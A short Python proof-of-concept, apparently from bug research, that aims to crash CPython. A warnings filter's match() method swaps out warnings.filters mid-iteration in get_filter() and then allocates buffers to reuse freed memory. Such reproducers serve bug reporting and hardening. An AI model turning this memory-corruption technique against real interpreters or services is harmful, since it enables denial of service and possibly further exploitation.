# technique: a filter's match() replaces the list of filters that is gone through
# goal: crash
# source: own analysis: get_filter() in _warnings.c
import warnings


class Match:
    def match(self, text):
        if turns:
            turns.pop()
            warnings.filters = [('ignore', None, Warning, None, 0)]
            warnings.warn('x')
            junk.extend(bytearray(view[:n]) for n in range(7900, 9200, 4))


junk = []
view = memoryview(b'A' * 9999)
for i in range(50):
    turns = [1]
    warnings.filters = [('ignore', Match(), Warning, None, 0)
                        for i in range(1000)]
    warnings.warn('y')
